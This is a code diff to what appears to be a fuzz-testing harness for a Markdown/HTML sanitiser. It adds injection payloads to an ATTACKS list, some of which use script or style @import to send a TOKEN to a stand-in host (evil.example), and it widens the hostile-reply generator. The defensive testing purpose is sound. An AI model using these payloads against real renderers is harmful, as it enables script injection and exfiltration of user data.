@@ -1,3 +1,4 @@
+import { denseReply } from './dense-grammar.js'
 import { grammaticalReply } from './hostile-grammar.js'
 import type { Random } from './random.js'
 
@@ -149,6 +150,15 @@ export const ATTACKS: readonly string[] = [
   '<script/></e><<?</script>?>TOKEN',
   '[a]:>mailto:TOKEN\n[a]',
   "<style>`</style>`@import'TOKEN|>\n-|-",
+  '[^n]\n[^n]:! TOKEN\n<script',
+  '[^n]\n\n> [^n]: a\n>\n>     b TOKEN\n\n<style',
+  '[^n]\n\n[^n]: a\n\u200b\nTOKEN\n\n<textarea></textarea><script>',
+  '[^n\\]]\n\n[^n\\]]: a\r\nTOKEN\r\n\r\n<script',
+  '[a]: x "TOKEN"\n\nx <style>@import \'//evil.example/?q=[a]\';</style>',
+  "[a]: <x> 'b\nTOKEN'\n\nx <style>@import '//evil.example/?q=[a]';</style>",
+  "> [a]: x\n> (TOKEN)\n\nx <script>fetch('//evil.example/?q=![a]')</script>",
+  "[a]: x\\\ny (TOKEN)\n\nx <script>fetch('//evil.example/?q=![a]')</script>",
+  '[a]: x "b\n\nTOKEN"\n\n<b>x</b> <script>\'[a]\'</script>',
 ]
 
 const PIECES = [
@@ -316,7 +326,9 @@ const PIECES = [
 ]
 
 export function hostileReply(random: Random): string {
-  const kind = random.below(20)
+  const kind = random.below(26)
+  if (kind >= 24) return mutated(denseReply(random), random)
+  if (kind >= 20) return denseReply(random)
   if (kind < 8) return grammaticalReply(random)
   if (kind < 10) return mutated(grammaticalReply(random), random)
   if (kind < 14) return mutated(random.pick(ATTACKS), random)
